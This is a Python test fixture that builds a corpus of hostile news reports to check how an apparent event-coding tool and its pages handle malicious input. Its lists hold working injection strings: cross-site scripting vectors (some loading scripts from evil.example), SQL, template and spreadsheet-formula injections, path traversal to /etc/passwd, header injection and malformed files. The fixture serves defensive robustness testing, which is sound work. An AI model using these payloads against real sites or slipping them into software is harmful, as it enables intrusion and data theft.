"""Two hundred reports that mean harm: each of `PAYLOADS` in the text, the headline, the address and the id of a report.

`code` stands in for the coder and makes of every report a claim whose words are the payload, so that all pages show it.
"""

import re
from collections.abc import Callable, Iterator
from datetime import date, timedelta
from typing import Any

from sayso.records import Claim, Party, Place, Reading, Report, Toll, When

PAYLOADS: tuple[str, ...] = (
    # Scripts, plain and in disguise.
    "<script>alert(1)</script>", "</title><script src=//evil.example/x.js></script>", "<ScRiPt\n>alert(1)</sCrIpT\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<!--<script>--><script>alert(1)</script>", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "＜script＞alert(1)＜/script＞",
    # Breaking out of attributes, texts and elements.
    '"><img src=x onerror=alert(1)>', "' autofocus onfocus=alert(1) x='", '" onmouseover="alert(1)', "`onload=alert(1)`",
    "</textarea></select></form></main><h1 onclick=alert(1)>", "]]><script>alert(1)</script>", "</blockquote></mark></div><iframe srcdoc='<script>alert(1)</script>'>",
    # Elements that run or load something by themselves.
    "<svg/onload=alert(1)>", "<svg><script href=data:,alert(1) /></svg>", "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<iframe src=javascript:alert(1)>", "<object data=javascript:alert(1)>", "<details open ontoggle=alert(1)>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{background:url(//evil.example)}</style>",
    # Addresses that run something, or lead elsewhere.
    "javascript:alert(document.domain)", "JaVaScRiPt&colon;alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "//evil.example/%2e%2e", "vbscript:msgbox(1)", "/../../../../etc/passwd", "..\\..\\windows\\system32", "../add", "..", "?a=b#c&d=e", "%2e%2e%2f%00%0d%0aSet-Cookie:x=y",
    # Templates, formulas, queries.
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}", "${7*7}#{7*7}<%= 7*7 %>", "=cmd|' /C calc'!A0", '@SUM(1+1)*cmd|"/C calc"!A0',
    "'; DROP TABLE reports; --", "\" OR 1=1 -- ", "$one $w0 ? :name %s %(x)s {0} {x.__class__}",
    # Letters that steer what is shown, half characters, and too much of a good thing.
    "\u202egnp.exe\u202c \u2066\u2067\u2068\u2069 \u200f\u061c", "\ud800 half \udfff", "a" + "\u0301" * 100_000, "\U0001f4a3\U0001f468\u200d\U0001f469\u200d\U0001f467 \U000e0041\ufeff\ufffe\u2028\u2029\x1b[31m\x07\x08",
    "nul\0byte", "long" * 5_000,
)  # fmt: skip
FIELDS = ("text", "title", "url", "id")
FILE_NAMES = (
    '"><img src=x onerror=alert(1)>.txt', "../../../etc/passwd", "..", "C:\\evil\\<script>.txt", "\U0001f4a3" * 100 + ".txt", "\u202etxt.exe", "a\r\nX-Evil: 1.txt",
    "'; DROP TABLE reports;.jsonl", "x" * 500 + ".html", ".htaccess", "nul\0.txt", "a.exe", "https://evil.example/x.txt", "-", "%2e%2e%2fx.csv",
)  # fmt: skip
FILES: tuple[bytes, ...] = (
    b"\xff\xfe\x00<\x00s", b"{" * 100_000, b'{"text": ' + b"[" * 5000 + b"]" * 5000 + b"}", b"", b"\x1f\x8b\x08\x00broken", b"PAR1brokenPAR1",
    b'{"text": "\\ud800 shelled \\udfff"}\n{"text": 1}\n{"id": {"a": 1}, "text": "shelled"}', b"id,text\n=1+1,\"shelled <b>\n", b"<html><title><script>alert(1)</script></title><p>troops shelled <svg onload=alert(1)></html>",
)  # fmt: skip
SHOWN = 1000
DAYS = ("0001-01-01", "9999-12-31")  # the first and last that a calendar here can have


def make_corpus() -> Iterator[dict[str, Any]]:
    """The reports, as lines of JSON Lines have them."""
    for number, payload in enumerate(PAYLOADS):
        for place in FIELDS:
            told = {"id": f"h{number}-{place}", "title": f"On {number}", "url": "https://zenda.example/", "publisher": "Wire"}
            told["text"] = write_text(payload if place == "text" else f"part {number}")
            if place != "text":
                told[place] = payload
            if place == "title":
                told["publisher"] = payload
            yield told | {"published": find_day(number)}


def find_day(number: int) -> str:
    """A day, now and then at an end of the calendar; many lie apart, so that not all reports tell of one happening."""
    return DAYS[number // 9 % 2] if number % 9 == 8 else (date(2010, 1, 1) + timedelta(40 * number)).isoformat()


def write_text(payload: str) -> str:
    """A report of which `code` makes a claim with the payload for its words."""
    return f"Troops of {payload} shelled «{payload}» on Tuesday, killing 3 people."


def code(report: Report) -> Reading:
    """One claim a report that tells of shelling; actor, place, speaker and trigger are what stands around it."""
    found = re.search("shelled", report.text)
    if found is None:
        return Reading(report.id)
    at = report.text.find("«") + 1
    end = max(at + 1, report.text.find("»"))
    words = report.text[at:end][:SHOWN]
    odd = len(report.text) % 2 == 1
    day = report.published
    party = Party(words, at, end, "GOT MIL" if odd else None, name=words)
    claim = Claim(
        id=f"{report.id}:{found.start()}:ASSAULT", report=report.id, sentence=(0, len(report.text)), at=found.start(),
        trigger="shelled", type="ASSAULT", mode="heavy-weapons", actor=(party,), recipient=(Party(words, at, end, "RUR CVL"),),
        sources=(party,), medium=words,
        place=(Place(words, at, end, words, words if odd else "616", 90.0 if odd else -90.0, 180.0, "RUR", "town"),),
        when=(When("Tuesday", 0, 7, "DATE", day, day, day),), confidence=0.9,
        casualties=(Toll("killed", 3, 10**15 if odd else None, words, at, end, party),),
    )  # fmt: skip
    return Reading(report.id, (claim,))


def coder() -> Callable[[Report], Reading]:
    """Stands in for the task that loads the coder."""
    return code
